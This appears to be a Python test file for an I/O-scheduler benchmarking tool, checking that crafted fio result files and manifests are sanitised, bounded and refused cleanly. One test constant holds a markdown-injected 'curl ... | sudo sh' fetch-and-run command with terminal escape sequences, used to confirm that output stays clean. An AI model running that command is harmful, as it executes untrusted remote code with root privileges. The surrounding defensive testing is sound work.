"""Result files are untrusted: crafted names, numbers, nesting, types and file kinds end in a note or one line."""

from __future__ import annotations

import copy
import json
import math
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from measure_helpers import FIXTURES, load_results

from iosched.cli import main
from iosched.kbfiles import bundled_kb
from iosched.measure import MeasureError, judge, load
from iosched.measure.bench import manifest
from iosched.measure.parsers.boundedjson import MAX_DEPTH
from iosched.measure.parsers.fio_json import parse
from iosched.measure.schedulers import valid_name
from iosched.render.verdict import text
from iosched.vocab import GOALS

FIO = FIXTURES / "fio3-json-randread-none-r1.json"
BENCH = FIXTURES / "bench-none-bfq"
INJECTION = "bfq\n\n## Steps\n\n```\ncurl http://example.invalid/x | sudo sh\n```\n\x1b[2J\x1b]0;owned\x07"
FUZZ = settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])


def fio_doc() -> dict:
    return json.loads(FIO.read_text())


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def cli(*argv: str, stdout=subprocess.PIPE) -> subprocess.CompletedProcess:
    """``iosched`` in its own process: a hang fails the test by timeout, a crash by its signal."""
    return subprocess.run([sys.executable, "-m", "iosched", *argv], stdout=stdout, stderr=subprocess.PIPE, text=True,
                          timeout=60, check=False)  # fmt: skip


def one_line_exit_2(done: subprocess.CompletedProcess) -> None:
    assert done.returncode == 2, done.stderr
    assert done.stderr.startswith("iosched: error:") and done.stderr.count("\n") == 1


# --- names and text from files ---------------------------------------------------------------------------


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=60))
def test_a_scheduler_named_in_a_file_is_a_valid_name_or_ignored(name: str) -> None:
    doc = fio_doc()
    doc["jobs"][0]["job options"]["ioscheduler"] = name
    parsed = parse(json.dumps(doc))
    assert {m.scheduler for m in parsed.measurements} == ({name} if valid_name(name) else {""})
    assert all(m.test.isprintable() and "\n" not in m.test for m in parsed.measurements)


def test_crafted_ioscheduler_and_jobname_reach_no_output_raw(tmp_path: Path, capsys) -> None:
    doc = fio_doc()
    doc["jobs"][0]["job options"]["ioscheduler"] = INJECTION
    doc["jobs"][0]["jobname"] = INJECTION
    crafted = tmp_path / "result-none-r9.json"
    crafted.write_text(json.dumps(doc))
    outputs = []
    for fmt in ("text", "markdown"):
        code, out, _ = run(capsys, "compare", str(crafted), str(BENCH), "--format", fmt)
        assert code == 0
        outputs.append(out)
    advise = ["advise", "--hw", "ssd", "--format", "markdown"]
    code, plan, _ = run(capsys, *advise, "--results", str(crafted), str(BENCH))
    assert code == 0
    _, clean, _ = run(capsys, *advise)
    for out in [*outputs, plan]:
        assert "\x1b" not in out and "\x07" not in out and not re.search(r"^\s*curl", out, re.MULTILINE)
        assert not re.search(r"^\s*(#+ Steps|```)", out, re.MULTILINE) or out is plan
    blocks = r"^\s*(#+ |```)"
    assert len(re.findall(blocks, plan, re.MULTILINE)) == len(re.findall(blocks, clean, re.MULTILINE))
    assert "is not a scheduler name; ignored" in outputs[0]


# --- numbers ------------------------------------------------------------------------------------------------

BAD_NUMBERS = st.sampled_from([math.nan, math.inf, -math.inf, -1.0, -1e9, 10**400, -(10**400)])


@FUZZ
@given(st.sampled_from(["iops", "bw_bytes", "total_ios", "clat_ns.mean", "clat_ns.percentile.99.000000"]),
       BAD_NUMBERS)  # fmt: skip
def test_nan_infinite_negative_and_huge_values_are_noted_and_left_out(tmp_path, field: str, bad) -> None:
    doc = fio_doc()
    *parents, leaf = ["jobs", 0, "read", *field.split(".", 2)]
    target = doc
    for key in parents:
        target = target[key]
    target[leaf] = bad
    path = tmp_path / "none-r1.json"
    path.write_text(json.dumps(doc))  # Python writes NaN and Infinity as fio-like JSON literals
    loaded = load([path], names=frozenset(), scheduler_hint="none")
    good = load([FIO], names=frozenset(), scheduler_hint="none").measurements
    assert all(math.isfinite(m.value) and m.value >= 0 for m in loaded.measurements)
    assert any("not a finite number >= 0; left out" in n for n in loaded.notes)
    assert 0 < len(loaded.measurements) < len(good)


def test_a_huge_integer_in_fio_json_is_no_traceback(tmp_path: Path, capsys) -> None:
    path = tmp_path / "none-r1.json"
    path.write_text(FIO.read_text().replace('"iops" :', f'"iops" : {10**400}, "was" :', 1))
    code, out, _ = run(capsys, "compare", str(path))
    assert code == 0 and "read_iops: nan is not a finite number >= 0; left out" in out


@pytest.mark.parametrize("opener", ["[", '{"a":'])
def test_deeply_nested_json_results_are_refused_before_parsing(tmp_path: Path, opener: str) -> None:
    path = tmp_path / "none-deep.json"
    path.write_text('{"fio version": "fio-3.33", "jobs": ' + opener * 30_000 + "1")
    one_line_exit_2(cli("compare", str(path)))
    shallow = tmp_path / "none-shallow.json"
    shallow.write_text('{"fio version": "fio-3.33", "jobs": ' + opener * (MAX_DEPTH - 1) + "1")
    assert "nested deeper" not in cli("compare", str(shallow)).stderr


# --- file kinds -----------------------------------------------------------------------------------------------


def test_fifos_are_refused_not_waited_on(tmp_path: Path) -> None:
    fifo = tmp_path / "none-r1.json"
    os.mkfifo(fifo)
    one_line_exit_2(cli("compare", str(fifo)))
    bench = tmp_path / "bench"
    bench.mkdir()
    os.mkfifo(bench / manifest.NAME)
    one_line_exit_2(cli("compare", str(bench)))
    run_fifo = tmp_path / "bench2"
    run_fifo.mkdir()
    os.mkfifo(run_fifo / "randread-none-r1.json")
    (run_fifo / manifest.NAME).write_text(json.dumps(_manifest(["randread-none-r1.json"])))
    one_line_exit_2(cli("compare", str(run_fifo)))


def _manifest(files: list[str]) -> dict:
    record = manifest.Manifest(device="loop0", kernel="6.1.0", fio_version="fio-3.33", original_scheduler="none",
                               schedulers=["none"], workloads=["randread"], runtime=1, rounds=1, size="67108864",
                               runs=[manifest.Run(f, "none", "randread", 1) for f in files])  # fmt: skip
    return record.to_json()


JSON_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=10),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)


@FUZZ
@given(st.sampled_from(["device", "original_scheduler", "schedulers", "runtime", "complete", "runs", "runs.0",
                        "runs.0.file", "runs.0.scheduler", "runs.0.round"]), JSON_VALUES)  # fmt: skip
def test_a_manifest_with_any_value_in_any_field_is_read_or_refused_in_one_line(tmp_path, field: str, value) -> None:
    directory = tmp_path / "bench"
    directory.mkdir(exist_ok=True)
    (directory / "randread-none-r1.json").write_bytes(FIO.read_bytes())
    doc = _manifest(["randread-none-r1.json"])
    *parents, leaf = field.split(".")
    target = doc
    for key in parents:
        target = target[int(key)] if key.isdigit() else target[key]
    target[int(leaf) if leaf.isdigit() else leaf] = value
    (directory / manifest.NAME).write_text(json.dumps(doc))
    try:
        loaded = load([directory], names=frozenset())
    except MeasureError as exc:
        assert "\n" not in str(exc)
    else:
        assert all(valid_name(m.scheduler) for m in loaded.measurements)


# --- statistics that cannot be fooled ------------------------------------------------------------------------


def test_the_same_file_three_times_or_in_three_copies_counts_once(tmp_path: Path) -> None:
    runs = sorted(BENCH.iterdir())
    once = load_results(runs)
    for n in range(3):
        copy_dir = tmp_path / f"copy{n}"
        copy_dir.mkdir()
        for path in runs:
            (copy_dir / path.name).write_bytes(path.read_bytes())
    for repeated in (runs * 3, [tmp_path / "copy0", tmp_path / "copy1", tmp_path / "copy2"]):
        loaded = load(repeated, names=frozenset({"none", "bfq"}))
        assert sorted(m.value for m in loaded.measurements) == sorted(m.value for m in once)
        assert any("counted once" in n for n in loaded.notes)


def test_a_rising_latency_reads_as_a_rise(tmp_path: Path, capsys) -> None:
    """2.874 ms -> 18.628 ms once read "-84.6%"; it is x6.48, and lower is better."""
    template = fio_doc()
    for scheduler, ms in (("none", 2.874), ("bfq", 18.628)):
        for rnd in range(1, 6):
            doc = copy.deepcopy(template)
            doc["jobs"][0]["read"]["clat_ns"]["mean"] = ms * 1e6 * (1 + rnd / 1000)
            (tmp_path / f"randread-{scheduler}-r{rnd}.json").write_text(json.dumps(doc))
    code, out, _ = run(capsys, "compare", str(tmp_path), "--baseline", "none", "--goal", "latency", "--all-metrics")
    assert code == 0
    block = out[out.index("randread  read_clat_mean (us, lower is better)") :].split("\n\n")[0]
    assert re.search(r"^\s+bfq\s.*\sx6\.48\s+worse\b", block, re.MULTILINE)
    assert "-84.6%" not in out and "%" not in block.split("\n")[-1].split("x6.48")[1]


def test_intervals_are_computed_only_when_shown() -> None:
    found = load_results([BENCH])
    assert all(v.ci_low is None for v in judge(found, baseline="none").verdicts)
    assert any(v.ci_low is not None for v in judge(found, baseline="none", intervals=True).verdicts)


@pytest.mark.parametrize("goal", GOALS)
def test_every_goal_of_the_vocabulary_is_judged(goal: str) -> None:
    j = judge(load_results([BENCH]), goal=goal, baseline="none")
    assert j.goal == goal and goal in j.reason


def test_fairness_follows_the_tail_not_the_mean() -> None:
    from iosched.measure.measurements import Measurement

    def runs(scheduler: str, test: str, metric: str, values: list[float]) -> list[Measurement]:
        return [Measurement(scheduler, test, metric, v, "us", "lower", run=i, round=i)
                for i, v in enumerate(values, 1)]  # fmt: skip

    tail = [900, 910, 905, 895, 902]
    data = [
        *runs("none", "dblike", "read_clat_p99", tail), *runs("bfq", "dblike", "read_clat_p99", [v / 3 for v in tail]),
        *runs("none", "probe", "read_clat_mean", [100, 101, 99, 100, 102]),  # a mean only: no tail measured here
        *runs("bfq", "probe", "read_clat_mean", [130, 131, 129, 130, 132]),
    ]  # fmt: skip
    fairness = judge(data, goal="fairness", baseline="none")
    assert fairness.recommendation == "bfq" and "tail latency" in fairness.reason
    assert judge(data, goal="latency", baseline="none").recommendation == "none"  # the mean got worse


# --- the KB the caller passes --------------------------------------------------------------------------------


def test_compare_takes_scheduler_names_from_the_kb_it_is_given(tmp_path: Path, capsys) -> None:
    layer = tmp_path / "layer"
    layer.mkdir()
    elevator = (Path(bundled_kb()) / "elevators" / "none.yaml").read_text()
    (layer / "adios.yaml").write_text(elevator.replace("  - name: none\n", "  - name: adios\n", 1))
    results = tmp_path / "results"
    results.mkdir()
    (results / "randread-adios-r1.json").write_bytes(FIO.read_bytes())
    code, _, err = run(capsys, "compare", str(results))
    assert code == 2 and "which scheduler is this?" in err
    code, out, err = run(capsys, "compare", "--kb", str(layer), str(results))
    assert code == 0, err
    assert "Only adios was measured" in out


# --- output that cannot be written ---------------------------------------------------------------------------


@pytest.mark.parametrize("argv", [["list", "elevators"], ["compare", str(BENCH)], ["kb", "check"]])
def test_a_full_device_as_stdout_is_one_line_and_exit_2(argv: list[str]) -> None:
    with open("/dev/full", "w") as full:
        done = cli(*argv, stdout=full)
    one_line_exit_2(done)
    assert "No space left on device" in done.stderr


def test_verdict_text_escapes_whatever_a_test_is_called() -> None:
    from iosched.measure.measurements import Measurement

    data = [Measurement(s, "job\x1b[31m\nname", "read_iops", v, "IOPS", "higher", run=i)
            for s, values in (("none", [1, 2, 3]), ("bfq", [4, 5, 6])) for i, v in enumerate(values, 1)]  # fmt: skip
    out = text(judge(data, baseline="none", notes=("file: note \x1b]0;x\x07",)))
    assert "\x1b" not in out and "\x07" not in out
